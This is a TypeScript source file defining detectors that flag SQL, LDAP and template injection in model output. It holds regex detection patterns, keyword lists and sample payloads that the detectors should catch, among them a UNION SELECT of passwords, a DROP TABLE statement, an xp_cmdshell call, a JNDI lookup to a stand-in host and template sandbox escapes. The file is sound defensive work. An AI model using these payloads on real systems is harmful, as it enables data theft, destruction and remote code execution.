// Values that change the query they are put into: SQL, LDAP, and templates that evaluate what they are given.
import { defineDetector, type Match, type Shape } from '../../define.ts'
import { all, surest } from './all.ts'

/** `signs`: small letters of which one must be there; asked first. */
type Row = [kind: string, pattern: RegExp, confidence: number, note: string, signs?: readonly string[]]

const SQL: Row[] = [
  [
    'sql-injection',
    /['"`)\d](?:\s|\/\*\*\/){0,6}(?:\bor\b|\band\b|\|\||&&)\s{0,6}\(?\s{0,2}(?:['"`]?([\w]{1,20})['"`]?\s{0,4}(?:=|like|<=>|is)\s{0,4}['"`]?\1\b|true\b|1\s{0,2}=\s{0,2}1)/gi,
    0.85,
    'A condition that is always true',
  ],
  [
    'sql-injection',
    /\bunion(?:\s|\/\*[^*]{0,20}\*\/){1,8}(?:all\s{1,8}|distinct\s{1,8})?select\b[^\n;]{1,200}/gi,
    0.65,
    'A query joined to another',
    ['union'],
  ],
  [
    'sql-injection',
    /['"`)\d]\s{0,4};\s{0,6}(?:drop|truncate|alter)\s{1,6}(?:table|database|schema|user)\b[^\n;]{0,80}/gi,
    0.85,
    'A second statement that destroys',
    [';'],
  ],
  [
    'sql-injection',
    /['"`]\s{0,4};\s{0,6}(?:delete\s{1,6}from|update\s{1,6}\w{1,60}\s{1,6}set|insert\s{1,6}into|exec(?:ute)?\b|shutdown\b)[^\n]{0,80}/gi,
    0.85,
    'A second statement',
    [';'],
  ],
  [
    'sql-injection',
    /\b(?:xp_cmdshell|sp_oacreate|load_file\s{0,3}\(\s{0,3}['"]|into\s{1,6}(?:out|dump)file\s{1,6}['"]|utl_http\.request|pg_read_file\s{0,3}\(|copy\s{1,6}\w{1,60}\s{1,6}(?:to|from)\s{1,6}program)/gi,
    0.85,
    'A query that reaches outside the database',
    ['xp_cmd', 'sp_oa', 'file', 'utl_', 'program'],
  ],
  [
    'sql-injection',
    /['"`)\d]\s{0,6}(?:or|and|;|\|\|)?\s{0,6}(?:sleep\s{0,3}\(\s{0,3}\d|pg_sleep\s{0,3}\(|waitfor\s{1,4}delay\s{1,4}['"]|benchmark\s{0,3}\(\s{0,3}\d{4,})/gi,
    0.85,
    'A query that waits to give an answer away',
    ['sleep', 'waitfor', 'benchmark'],
  ],
  [
    'sql-injection',
    /(?:^|[=\s:(,])['"]?\b(?=\w{1,32}['"](?:--|#|\s))\w{1,32}['"](?:--|#|\s{1,3}--\s{0,3}$)/gim,
    0.6,
    'A value that comments the rest out',
    ['--', '#'],
  ],
]
const LDAP: Row[] = [
  ['ldap-injection', /\*\)\s{0,2}\(\s{0,2}(?:[|&!]|\w{1,40}\s{0,2}=)/g, 0.8, 'A value that opens another filter'],
  [
    'ldap-injection',
    /\)\s{0,2}\(\s{0,2}[|&]\s{0,2}\(\s{0,2}(?:uid|cn|user\w{0,20}|objectclass|mail|password)\s{0,2}=/gi,
    0.8,
    'A value that opens another filter',
  ],
]
const TEMPLATE: Row[] = [
  [
    'template-injection',
    /\$\{\s{0,4}(?:jndi|lower:|upper:|env:|sys:|java:|script:|dns:)[^}\n]{1,200}\}?/gi,
    0.9,
    'A lookup that a logger would run',
  ],
  [
    'template-injection',
    /(?:\{\{|\$\{|#\{|<%=?|\*\{|@\()\s{0,4}\d{1,6}\s{0,3}[*+]\s{0,3}\d{1,6}\s{0,4}(?:\}\}?|%>|\))/g,
    0.8,
    'A sum that tells whether a template evaluates',
  ],
  [
    'template-injection',
    /(?:''|""|\(\)|\[\])\.__class__\.__(?:mro|base|bases|subclasses)__/g,
    0.85,
    'An expression that climbs out of its sandbox',
  ],
]

const shapesOf = (rows: readonly Row[]): Shape[] => rows.map(([, pattern]) => ({ pattern }))

const say = (rows: readonly Row[]) => (window: string) => {
  const small = window.toLowerCase()
  return surest(
    rows
      .filter(([, , , , signs]) => signs?.some((sign) => small.includes(sign)) ?? true)
      .flatMap(([kind, pattern, confidence, note]) => all(window, pattern, () => ({ kind, confidence, note }))),
  )
}

/** The breaking out, spelt out: `or`, `and` and semicolons alone are in every second sentence. */
const SQL_LITERALS = [
  ...["'", '"', '`', ')', ...'0123456789'].flatMap((before) =>
    ['or', 'and', '||', '&&'].flatMap((word) => ['', ' ', '  ', '\t', '/**/'].map((gap) => before + gap + word)),
  ),
  ...['drop', 'truncate', 'alter', 'delete', 'update', 'insert', 'exec', 'shutdown'].flatMap((word) =>
    [';', '; ', ';  ', ';\n', ';\t'].map((gap) => gap + word),
  ),
  ...['select', 'all', 'distinct', '/*'].flatMap((word) =>
    [' ', '  ', '\n', '\t', '/**/'].map((gap) => `union${gap}${word}`),
  ),
  'union/*',
  'xp_cmdshell',
  'sp_oacreate',
  'load_file',
  'outfile',
  'dumpfile',
  'utl_http',
  'pg_read_file',
  'to program',
  'from program',
  'sleep(',
  'sleep (',
  'waitfor delay',
  'benchmark(',
  ...["'", '"'].flatMap((quote) => ['--', ' --', '#'].map((comment) => quote + comment)),
]

/** What a template has no business with. Looked for first: an opening brace announces too little. */
const HOST_WORDS =
  /__class__|__mro__|__subclasses__|__globals__|__builtins__|__import__|\bconstructor\s{0,2}\(|\.constructor\b|getRuntime|ProcessBuilder|freemarker\.template|T\(java|\bself\._|cycler\.__|lipsum\.|request\.application|\bsystem\(|popen\(|passthru/g
const OPENERS = ['{{', '{%', '${', '#{', '<%']
const LONGEST_TEMPLATE = 200
const OPENED = new RegExp(`(?:\\{\\{|\\{%|[$#]\\{|<%)[^\\n]{0,${LONGEST_TEMPLATE + 40}}`, 'g')

function reaching(window: string): Match[] {
  const matches: Match[] = []
  for (const { 0: word, index } of window.matchAll(HOST_WORDS)) {
    const lead = window.slice(Math.max(0, index - LONGEST_TEMPLATE), index)
    const line = lead.slice(lead.lastIndexOf('\n') + 1)
    const opened = Math.max(...OPENERS.map((opener) => line.lastIndexOf(opener)))
    if (opened < 0) continue
    const start = index - line.length + opened
    matches.push({
      kind: 'template-injection',
      start,
      end: index + word.length,
      confidence: 0.9,
      note: 'A template that reaches into its host',
    })
  }
  return matches
}

export const sqlInjection = defineDetector({
  id: 'sql-injection',
  control: 'encode-model-output',
  family: 'output',
  title: 'Values that change the SQL query they are put into',
  severity: 'high',
  literals: SQL_LITERALS,
  reach: { before: 120, after: 260 },
  detect: say(SQL),
  shapes: shapesOf(SQL),
  examples: {
    hit: [
      "name = x' OR '1'='1",
      '1 UNION SELECT username, password FROM users',
      "Robert'); DROP TABLE students;--",
      "1' AND SLEEP(5)--",
      "'; EXEC xp_cmdshell('dir')",
      "admin'--",
    ],
    miss: [
      'SELECT name FROM users WHERE id = ? OR email = ?',
      'the union selected a leader; drop by any time',
      'sleep for an hour and update the table',
      "it's true or it isn't; don't worry -- really",
    ],
  },
})

export const ldapInjection = defineDetector({
  id: 'ldap-injection',
  control: 'encode-model-output',
  family: 'output',
  title: 'Values that change the LDAP filter they are put into',
  severity: 'high',
  literals: ['*)', ')(', ') ('],
  reach: { before: 8, after: 80 },
  detect: say(LDAP),
  shapes: shapesOf(LDAP),
  examples: {
    hit: ['user=*)(uid=*))(|(uid=*', 'admin)(&(objectClass=*'],
    miss: ['f(a)(b)', '(see above) (and below)', 'int *) (void'],
  },
})

const evaluated = say(TEMPLATE)

export const templateInjection = defineDetector({
  id: 'template-injection',
  control: 'encode-model-output',
  family: 'output',
  title: 'Templates and expressions that evaluate what they are given',
  severity: 'high',
  literals: ['${', '{{', '{%', '#{', '<%', '*{', '@(', '__class__'],
  reach: { before: 8, after: 240 },
  detect: (window) => surest([...evaluated(window), ...reaching(window)]),
  shapes: [...shapesOf(TEMPLATE), { pattern: OPENED, counts: ({ 0: line }) => line.search(HOST_WORDS) >= 0 }],
  examples: {
    hit: [
      '${jndi:ldap://evil.test/a}',
      '{{7*7}}',
      "{{ ''.__class__.__mro__[1].__subclasses__() }}",
      '<%= 7 * 7 %>',
      '${T(java.lang.Runtime).getRuntime().exec("id")}',
    ],
    miss: [
      'Hello {{ user.name }}, you have ${count} messages',
      'const x = `${a + b}`',
      '{% for item in items %}',
      'self.__class__.__name__',
    ],
  },
})
